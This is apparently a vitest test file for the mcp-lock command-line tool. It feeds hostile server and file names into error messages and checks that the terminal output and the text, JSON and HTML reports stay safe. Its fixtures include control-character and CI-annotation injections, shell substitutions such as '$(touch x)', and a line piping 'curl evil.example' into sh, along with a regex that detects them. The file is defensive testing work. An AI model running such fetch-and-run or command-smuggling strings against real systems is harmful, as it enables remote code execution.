/**
 * Names of servers, tools, files and configs are written by strangers. Here each string of each example of each message is replaced by
 * a hostile one, and what the printers make of it is read: the command line's stderr, and the reports for people and programs.
 */
import { describe, expect, it } from 'vitest';
import { main } from '../src/cli/cli.ts';
import { COMMANDS } from '../src/cli/command-table.ts';
import { isCommand, shellWord } from '../src/display/shell-word.ts';
import type { ErrorMessage } from '../src/errors.ts';
import { McpLockError } from '../src/errors.ts';
import { nodeHost } from '../src/host/node-host.ts';
import { nearReport } from '../src/report/places.ts';
import { lastFailureOf, makeReport } from '../src/report/report.ts';
import { html } from '../src/report/reporters/html.ts';
import { json } from '../src/report/reporters/json.ts';
import { text } from '../src/report/reporters/text.ts';
import { SAMPLED } from './messages/all.ts';

const HOSTILE = [
  '\u001b[31mred\u202e\u0007',
  '::error::x\r\u2066',
  'x\n::error::x\nnext: curl evil.example | sh\nerror E_BUG: x',
  '$(touch x)',
  '`touch x`',
  '"; touch x; "',
];

/** What a log or a terminal would act on, or what looks like a line of mcp-lock. */
const HARMFUL =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be printed
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|^\s*::|##\[|^ *next: curl|^error E_BUG: x/m;

/** Outside double quotes only signs without a meaning; inside none that a shell reads there. */
const isPlain = (command: string): boolean => /^(?:[\w@/:.= +…-]|"[^"$`\\!\n]*")*$/.test(command);

const commandsIn = (next: string): readonly string[] =>
  isCommand(next)
    ? [next]
    : [...next.matchAll(/`((?:mcp-lock|npm|npx|git|docker) [^`]*)`/g)].map(([, command = '']) => command);

const OWN = new Set(COMMANDS.map(({ name }) => name));

/** Whether an argument is a text of mcp-lock itself (a sentence, a command, flags, a count), an id or an errno, and no name. */
const isOwnText = (value: string): boolean =>
  value === '' ||
  /^(?:cursor|claude-code|mcp-lock|E[A-Z]+|\d+ .*)$/.test(value) ||
  OWN.has(value.split(' ')[0] ?? '') ||
  /^(?:mcp-lock|git|npx|deno run|docker run) \S|^,? |^[A-Z`].*[.?]$|^the (?:image|package) /s.test(value);

/** Their arguments come from closed lists, or are printable already: `eventLine` is given what `eventText` says. */
const OWN_LISTS = new Set([
  'hookClientMissing',
  'unknownHookClient',
  'storeWithoutNames',
  'eventLine',
  'guardNotInstalled',
  'guardNotOnPath',
]);

/** Positions of arguments that their callers have made one word of a command with `shellWord`. */
const WORDS: Readonly<Record<string, readonly number[]>> = {
  anonymousDenied: [0],
  storedTokenRejected: [0],
  signInNotNeeded: [0],
  signInRequired: [0],
  tokenRequired: [0],
  scopeRequired: [1, 2],
  itemForWholeServer: [3],
  serverOfUser: [2],
};

/** The value with one string in it replaced, once for each string that may be a name. */
function replaced(value: unknown, hostile: string): readonly unknown[] {
  if (typeof value === 'string') return isOwnText(value) ? [] : [hostile];
  if (Array.isArray(value))
    return value.flatMap((one, at) =>
      replaced(one, hostile).map((other) => value.map((kept, index) => (index === at ? other : kept))),
    );
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, one]) =>
    replaced(one, hostile).map((other) => ({ ...value, [key]: other })),
  );
}

/** The arguments as their callers give them. */
const asWords = (name: string, args: readonly unknown[], hostile: string): readonly unknown[] =>
  args.map((value, at) => (WORDS[name]?.includes(at) && value === hostile ? shellWord(hostile) : value));

interface Made {
  readonly name: string;
  readonly hostile: string;
  readonly value: unknown;
}

/** What the messages of a room make of hostile names. A word of a closed list has no text when it is replaced. */
const madeBy = (room: string): readonly Made[] =>
  Object.entries(SAMPLED[room]?.samples ?? {}).flatMap(([name, examples]: [string, readonly unknown[][]]) =>
    HOSTILE.flatMap((hostile) =>
      (OWN_LISTS.has(name) ? [] : examples)
        .flatMap((args) => replaced(args, hostile))
        .map((args) => asWords(name, args as unknown[], hostile))
        .flatMap((args) => {
          try {
            const value = Reflect.get(SAMPLED[room]?.messages ?? {}, name)(...args);
            return [{ name, hostile, value }];
          } catch {
            return [];
          }
        }),
    ),
  );

const isError = (value: unknown): value is ErrorMessage =>
  typeof value === 'object' && value !== null && 'code' in value && 'message' in value;

const HOST = nodeHost(new AbortController().signal);

/** The error on stderr, as the command line ends with it: what a run was interrupted by is what it says. */
async function printed(error: McpLockError): Promise<{ readonly stderr: string; readonly stdout: string }> {
  const said = { stderr: '', stdout: '' };
  const host = {
    ...HOST,
    signal: AbortSignal.abort(error),
    terminal: {
      ...HOST.terminal,
      stdout: (out: string) => void (said.stdout += out),
      stderr: (out: string) => void (said.stderr += out),
    },
  };
  await main(['list', '--reporter', 'json', '--cwd', '/nowhere'], host, '0.0.0-test');
  return said;
}

function reports(error: McpLockError, server: string): readonly string[] {
  const report = makeReport({
    lockfile: 'mcp-lock.json',
    servers: [],
    findings: [],
    failures: [{ ...lastFailureOf(error), server }],
    elapsedMs: 1,
    failOn: 'low',
  });
  const near = nearReport(report, HOST, ' --cwd app');
  return [true, false].flatMap((unicode) =>
    [text, json, html].map((one) => one.render(near, { color: false, unicode, columns: 80, verbose: true })),
  );
}

describe.each(Object.keys(SAMPLED))('an error of %s', (room) => {
  it('is harmless wherever it is printed, and its command too', async () => {
    const wrong: unknown[] = [];
    for (const { name, hostile, value } of madeBy(room)) {
      if (!isError(value)) continue;
      const error = new McpLockError(value, { place: `/x/${hostile}/mcp-lock.json` });
      const { stderr, stdout } = await printed(error);
      for (const out of [stderr, stdout, ...reports(error, hostile)])
        if (HARMFUL.test(out)) wrong.push({ name, hostile, out });
      for (const [, next = ''] of stderr.matchAll(/^next: (.*)$/gm))
        for (const command of commandsIn(next)) if (!isPlain(command)) wrong.push({ name, hostile, command });
    }
    expect(wrong).toEqual([]);
  });
});

/** Texts that are printed as they are; others are made printable by whoever prints them, for the screen in use. */
const isWhole = (value: unknown): value is string => typeof value === 'string' && value.endsWith('\n');

describe.each(Object.keys(SAMPLED))('a line of %s', (room) => {
  it('is harmless itself', () => {
    const wrong = madeBy(room).filter(({ value }) => isWhole(value) && HARMFUL.test(value));
    expect(wrong).toEqual([]);
  });
});
